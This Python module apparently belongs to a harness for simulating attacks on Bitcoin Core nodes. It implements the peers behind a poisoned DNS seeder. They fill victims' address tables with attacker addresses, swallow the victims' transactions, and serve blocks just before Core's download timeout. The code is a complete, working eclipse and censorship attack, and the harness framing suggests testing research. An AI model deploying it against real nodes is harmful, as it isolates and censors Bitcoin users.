"""`kind: bootstrap`: the nodes behind a poisoned or rogue DNS seeder's answers (issue 10, part 3).

A poisoned seeder hands out the attacker's planned addresses; each identity listens on its own, so
a victim that bootstraps from the seeder dials attackers only. Once a victim is connected, the
identity does what an attacker would (docs/attackers.md, "Malicious bootstrap"):

(a) **fills its address table** with attacker addresses: an `addr` push of its fellow identities'
    addresses after the handshake and every `push_every`, and `getaddr` answered with attacker
    addresses only, so the victim's new and tried tables hold nothing else to fall back on;
(b) **censors its transactions**: every transaction the victim announces is fetched (`getdata`)
    and accepted, and never relayed to anyone (`harness_attacker_censored_transactions_total`, attack/metrics.py);
(c) **delays blocks**: blocks the identity learns from its `targets` (honest nodes it dials as a
    quiet peer that relays nothing) are announced to the victims at once, and a victim's `getdata`
    is answered only `block_delay` later, just inside Core's block download timeout (10 minutes
    for the first in-flight block, net_processing.cpp BLOCK_DOWNLOAD_TIMEOUT_BASE), so a victim
    that enforces it never drops the attacker for it (`harness_attacker_block_delay_seconds`).

The identity never dials a victim: victims come to it through the seeder. Headers and blocks are
kept in a chain of the node package's own (`chain.Chain`), so `getheaders` is answered as a node
would and only valid blocks are ever announced.
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass, field
from typing import Any

from ..chain.chain import BlockInvalid, Chain
from ..config import parse_endpoint
from ..dictconfig import from_mapping
from ..wire.codec import NetAddr, hash_to_hex
from ..wire.messages import (
    MAX_ADDR_TO_SEND, MAX_HEADERS_RESULTS, MSG_BLOCK, MSG_TX, MSG_WITNESS_FLAG, MSG_WTX, NODE_NETWORK, NODE_WITNESS,
    CInv, msg_addr, msg_block, msg_getdata, msg_getheaders, msg_headers, msg_inv, msg_notfound,
)
from .base import ATTACKS, AttackPeer, Attacker
from .config import AttackConfigError

SERVICES = NODE_NETWORK | NODE_WITNESS  # a full node's: victims prefer these for outbound slots
BLOCK_DOWNLOAD_TIMEOUT = 600.0  # s, Core's BLOCK_DOWNLOAD_TIMEOUT_BASE (10 min x the block interval)
DEFAULT_BLOCK_DELAY = 570.0  # s: 95 % of it, so the block arrives just before a victim would give up
TX_TYPES = frozenset({MSG_TX, MSG_WTX, MSG_TX | MSG_WITNESS_FLAG})
BLOCK_TYPES = frozenset({MSG_BLOCK, MSG_BLOCK | MSG_WITNESS_FLAG})
FEED_RETRY = (0.5, 10.0)  # s: first and longest wait between dials of a feed node that is not up
MAX_CENSORED_KEPT = 10_000  # txids kept for /status (the counter counts them all)


@dataclass
class BootstrapParams:
    attacker_addresses: list[str] = field(default_factory=list)  # "ip:port" to advertise; default: the entry's identities
    push_addresses: bool = True  # (a) addr pushes; getaddr is always answered with attacker addresses only
    push_every: float = 60.0  # scenario seconds between addr pushes to a connected victim (Core time)
    censor: bool = True  # (b) fetch and swallow the victims' transactions (False: ignore their announcements)
    delay_blocks: bool = True  # (c) announce blocks to victims and serve them late
    block_delay: float = DEFAULT_BLOCK_DELAY  # scenario seconds a victim's getdata for a block waits (Core time)

    @classmethod
    def from_dict(cls, data: dict[str, Any]) -> "BootstrapParams":
        params = from_mapping(cls, data, "bootstrap params", AttackConfigError)
        try:
            for a in params.attacker_addresses:
                parse_endpoint(a)
        except ValueError as e:
            raise AttackConfigError(f"bootstrap params.attacker_addresses: {e}") from None
        for name in ("push_every", "block_delay"):
            value = getattr(params, name)
            if not isinstance(value, (int, float)) or isinstance(value, bool) or value < 0:
                raise AttackConfigError(f"bootstrap params.{name} must be a number >= 0, got {value!r}")
        if params.block_delay > BLOCK_DOWNLOAD_TIMEOUT:
            raise AttackConfigError(f"bootstrap params.block_delay must be <= {BLOCK_DOWNLOAD_TIMEOUT:g} s (Core's "
                                    f"block download timeout), got {params.block_delay!r}")
        if params.push_every == 0 and params.push_addresses:
            raise AttackConfigError("bootstrap params.push_every must be > 0 when push_addresses is on")
        return params


class FeedPeer(AttackPeer):
    """Our link to an honest node: a quiet inbound peer of theirs (relay off, nothing ever sent but
    the handshake, getheaders and getdata for blocks) through which the identity learns blocks."""

    def on_verack(self, msg: Any) -> None:
        self.send(msg_getheaders(locator=self.owner.chain.locator()))  # type: ignore[attr-defined]

    def on_headers(self, msg: Any) -> None:
        chain: Chain = self.owner.chain  # type: ignore[attr-defined]
        want = [CInv(MSG_BLOCK, h.hash) for h in msg.headers if not chain.has(h.hash) and not chain.is_orphan(h.hash)]
        if want:
            self.send(msg_getdata(want))
        if len(msg.headers) == MAX_HEADERS_RESULTS:
            self.send(msg_getheaders(locator=[msg.headers[-1].hash] + chain.locator()))

    def on_inv(self, msg: Any) -> None:
        chain: Chain = self.owner.chain  # type: ignore[attr-defined]
        want = [CInv(MSG_BLOCK, i.hash) for i in msg.inv if i.type in BLOCK_TYPES and not chain.has(i.hash)]
        if want:
            self.send(msg_getdata(want))

    def on_block(self, msg: Any) -> None:
        self.owner.learned(msg.block)  # type: ignore[attr-defined]


class VictimPeer(AttackPeer):
    """A victim that dialled us (it got our address from the seeder or from us)."""

    def __init__(self, owner: "BootstrapAttacker", **kwargs: Any) -> None:
        super().__init__(owner, **kwargs)
        self.announced: set[bytes] = set()  # block hashes this victim knows we have
        self.held: set[asyncio.Task[None]] = set()

    @property
    def bootstrap(self) -> "BootstrapAttacker":
        return self.owner  # type: ignore[return-value]

    def on_verack(self, msg: Any) -> None:
        self.bootstrap.victim_ready(self)

    def on_getaddr(self, msg: Any) -> None:
        self.bootstrap.send_addresses(self)
        self.bootstrap.getaddr_answered += 1

    def on_inv(self, msg: Any) -> None:
        if not self.bootstrap.params.censor:
            return
        want = [i for i in msg.inv if i.type in TX_TYPES]
        if want:
            self.send(msg_getdata(want))

    def on_tx(self, msg: Any) -> None:
        self.bootstrap.censor(msg.tx)

    def on_getheaders(self, msg: Any) -> None:
        headers = self.bootstrap.chain.headers_after(msg.locator, msg.hash_stop)
        self.announced.update(h.hash for h in headers)
        self.send(msg_headers(headers))

    def on_getdata(self, msg: Any) -> None:
        missing = []
        for inv in msg.inv:
            block = self.bootstrap.chain.get(inv.hash) if inv.type in BLOCK_TYPES else None
            if block is None:
                missing.append(inv)  # transactions included: we never serve any
            else:
                task = asyncio.get_running_loop().create_task(self.bootstrap.serve_late(self, block))
                self.held.add(task)
                task.add_done_callback(self.held.discard)
        if missing:
            self.send(msg_notfound(missing))


@ATTACKS.register("bootstrap", params=BootstrapParams,
                  description="The nodes behind a poisoned seeder: listen at the addresses it hands out; fill "
                              "the victims' address tables with attacker addresses, censor their transactions, "
                              "serve blocks only at the victims' download timeout.")
class BootstrapAttacker(Attacker):
    params: BootstrapParams

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.chain = Chain()
        self.victims: set[VictimPeer] = set()
        self.feeds: dict[str, AttackPeer] = {}
        self.accepted = 0
        self.getaddr_answered = 0
        self.addr_pushes = 0
        self.blocks_served = 0
        self.censored: dict[str, float] = {}  # txid hex -> when first received (bounded)
        self.censored_count = 0
        self._server: asyncio.AbstractServer | None = None

    # --- what we advertise -------------------------------------------------------------------------
    def attacker_addrs(self) -> list[NetAddr]:
        """Every identity of this attacker entry (the process's config), or the params' list."""
        own = self.params.attacker_addresses or [f"{a.address}:{a.port}" for a in self.config.attackers
                                                 if (a.group or a.name) == (self.spec.group or self.spec.name)]
        now = int(time.time())
        return [NetAddr(ip, port, SERVICES, now) for ip, port in map(parse_endpoint, own)]

    def send_addresses(self, peer: VictimPeer) -> None:
        addrs = self.attacker_addrs()[:MAX_ADDR_TO_SEND]
        peer.send(msg_addr(addrs))
        self.metrics.addresses_sent(len(addrs))  # the same counter as eclipse's floods

    def push(self, peer: VictimPeer) -> None:
        self.send_addresses(peer)
        self.addr_pushes += 1

    # --- the attack --------------------------------------------------------------------------------
    async def run(self) -> None:
        self._server = await asyncio.start_server(self._accept, host=self.spec.source_ip, port=self.spec.port)
        try:
            await asyncio.gather(*(self._feed(t) for t in self.spec.targets), self._pushes())
            await asyncio.Event().wait()  # no feed, no pushes: keep answering the victims until stopped
        finally:
            self._server.close()
            victims = list(self.victims)
            for v in victims:
                for task in list(v.held):
                    task.cancel()
            await asyncio.gather(*(v.close("attacker stopping") for v in victims), return_exceptions=True)

    async def _feed(self, target: str) -> None:
        """Hold one quiet link to an honest node, redialling when it drops (the attack lasts)."""
        wait = FEED_RETRY[0]
        while True:
            try:
                peer = await self.dial(target, services=SERVICES, relay=False, peer_cls=FeedPeer)
            except (OSError, asyncio.TimeoutError, ConnectionError, TimeoutError):
                await asyncio.sleep(wait)
                wait = min(FEED_RETRY[1], wait * 2)
                continue
            wait = FEED_RETRY[0]
            self.feeds[target] = peer  # FeedPeer.on_verack asked for headers during the handshake
            await self.until_closed(peer)
            self.feeds.pop(target, None)
            await asyncio.sleep(wait)

    async def _pushes(self) -> None:
        if not self.params.push_addresses:
            return
        while True:
            await asyncio.sleep(max(0.05, self.scaled(self.params.push_every)))
            for victim in list(self.victims):
                if victim.handshake_done and not victim.closed:
                    self.push(victim)

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        peer = VictimPeer(self, services=SERVICES, start_height=self.chain.height)
        peer.target = "{}:{}".format(*writer.get_extra_info("peername")[:2])
        self.accepted += 1
        await self.hold_inbound(peer, reader, writer, self.victims)

    def victim_ready(self, peer: VictimPeer) -> None:
        if self.params.push_addresses:
            self.push(peer)
        self.note("victim", address=peer.target)

    def learned(self, block: Any) -> None:
        """A block from a feed: stored; every newly connected block on our best chain is announced."""
        try:
            result = self.chain.add(block)
        except BlockInvalid:
            return  # never announce what an honest node would not
        best = [b for b in result.connected if self.chain.on_best_chain(b.hash)]
        if not best or not self.params.delay_blocks:
            return
        for victim in list(self.victims):
            new = [b.hash for b in best if b.hash not in victim.announced]
            if victim.handshake_done and not victim.closed and new:
                victim.announced.update(new)
                victim.send(msg_inv([CInv(MSG_BLOCK, h) for h in new]))

    async def serve_late(self, peer: VictimPeer, block: Any) -> None:
        """(c): the block the victim asked for, sent only when its download timeout nears."""
        asked = time.monotonic()
        if self.params.delay_blocks:
            await asyncio.sleep(self.scaled(self.params.block_delay))
        if peer.closed:
            return
        peer.send(msg_block(block))
        self.blocks_served += 1
        self.metrics.block_held(time.monotonic() - asked)

    def censor(self, tx: Any) -> None:
        """(b): accepted from the victim, never relayed; counted once per transaction and identity."""
        txid = hash_to_hex(tx.txid)
        if txid in self.censored:
            return
        self.censored[txid] = time.time()
        if len(self.censored) > MAX_CENSORED_KEPT:
            del self.censored[next(iter(self.censored))]
        self.censored_count += 1
        self.metrics.censored_tx()

    def peer_closed(self, peer: AttackPeer) -> None:
        if isinstance(peer, VictimPeer):
            self.victims.discard(peer)
            return
        super().peer_closed(peer)

    def detail(self) -> dict[str, Any]:
        return {"victims_connected": sorted(v.target for v in self.victims if v.handshake_done and not v.closed),
                "victim_dials_accepted": self.accepted, "getaddr_answered": self.getaddr_answered,
                "addr_pushes": self.addr_pushes, "transactions_censored": self.censored_count,
                "censored_txids": list(self.censored)[-100:], "blocks_known": self.chain.height,
                "blocks_served": self.blocks_served, "feeds": sorted(self.feeds)}
